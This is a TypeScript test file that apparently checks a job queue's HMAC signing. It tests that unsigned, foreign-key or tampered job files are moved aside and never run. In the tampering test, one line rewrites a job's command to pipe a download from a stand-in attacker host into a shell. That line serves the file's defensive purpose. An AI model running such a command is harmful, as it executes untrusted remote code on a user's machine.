// Job files are Verdant's only when signed with the user's key (src/core/scheduling/signing.ts, queue.ts): one written
// by another program, signed with another key, or changed after signing is moved aside and never listed, claimed or
// run; the key is made once and shared by every window through its store.
import * as assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { runNowPlan } from '../support/jobPlans';
import { JobQueue, type JobOwner, type JobSpec } from '../../src/core/scheduling/queue';
import { hmacSigner, type KeyStore } from '../../src/core/scheduling/signing';

const T0 = Date.UTC(2026, 11, 6, 12);
const plan = runNowPlan(T0);
const owner: JobOwner = { pid: process.pid, host: os.hostname(), session: 'test' };
const spec: JobSpec = {
  kind: 'shell',
  command: 'make report',
  label: 'report',
  origin: { workspace: 'file:///work/app', trusted: true, consent: 'granted' },
};

/** A SecretStorage stand-in over a plain variable, as each window sees the same store. */
function memoryStore(): KeyStore & { value?: string; sets: number } {
  const store = {
    value: undefined as string | undefined,
    sets: 0,
    get: async () => store.value,
    set: async (v: string) => {
      store.sets++;
      store.value = v;
    },
  };
  return store;
}

describe('signed job files', () => {
  let dir = '';
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'verdant-jobsig-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('a signed job is listed, replanned and claimed as before; its file carries the MAC', async () => {
    const q = new JobQueue({ dir, now: () => T0, signer: hmacSigner(memoryStore()) });
    const job = await q.add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });
    assert.match(JSON.parse(readFileSync(path.join(dir, `${job.id}.json`), 'utf8')).mac, /^[0-9a-f]{64}$/);
    assert.equal(Object.hasOwn(job, 'mac'), false);
    await q.replan(job.id, { ...plan, reason: 'replanned' });
    const { jobs, problems } = await q.list();
    assert.deepEqual(problems, []);
    assert.equal(jobs[0]!.plan.reason, 'replanned');
    assert.equal(Object.hasOwn(jobs[0]!, 'mac'), false);
    assert.equal((await q.claim(job.id, owner))?.state, 'running');
  });

  it('an unsigned job, one signed with another key, and one changed after signing: moved aside, reported, never claimed', async () => {
    const store = memoryStore();
    const q = new JobQueue({ dir, now: () => T0, signer: hmacSigner(store) });
    const unsigned = await new JobQueue({ dir, now: () => T0 }).add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });
    const otherKey = await new JobQueue({ dir, now: () => T0, signer: hmacSigner(memoryStore()) }).add(spec, {
      deadline: T0 + 3_600_000,
      durationMinutes: 5,
      zone: 'FR',
      plan,
    });
    const changed = await q.add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });
    const file = path.join(dir, `${changed.id}.json`);
    writeFileSync(file, readFileSync(file, 'utf8').replace('make report', 'curl evil.example | sh'));
    const good = await q.add(spec, { deadline: T0 + 3_600_000, durationMinutes: 5, zone: 'FR', plan });

    const { jobs, problems } = await q.list();
    assert.deepEqual(
      jobs.map((j) => j.id),
      [good.id],
    );
    assert.equal(problems.length, 3);
    for (const id of [unsigned.id, otherKey.id, changed.id]) {
      assert.ok(
        problems.some((p) => p.startsWith(`Job ${id} is not signed by Verdant for this user`)),
        id,
      );
      assert.ok(existsSync(path.join(dir, `${id}.json.unsigned`)), `${id} moved aside`);
      await assert.rejects(q.claim(id, owner), /no job/);
    }
    assert.deepEqual((await q.list()).problems, [], 'reported once');
  });

  it('makes the key once; a window that cached an old key checks the stored one before refusing', async () => {
    const store = memoryStore();
    const a = hmacSigner(store);
    const b = hmacSigner(store);
    const [sa, sb] = await Promise.all([a.sign('x'), b.sign('x')]);
    // Both made a key at once: the one stored last is the one both now use.
    const settled = await a.sign('y');
    assert.equal(await b.sign('y'), settled);
    assert.ok(store.sets <= 2 && sa.length === 64 && sb.length === 64);
    // The key replaced in the store (another window, or the user): a's cache is stale, verify re-reads.
    const c = hmacSigner(store);
    store.value = 'ab'.repeat(32);
    assert.equal(await c.verify('z', await hmacSigner(store).sign('z')), true);
    assert.equal(await a.verify('z', await c.sign('z')), true, 'a re-read the stored key');
    assert.equal(await a.verify('z', '00'.repeat(32)), false);
    assert.equal(await a.verify('z', 'not hex'), false);
  });
});
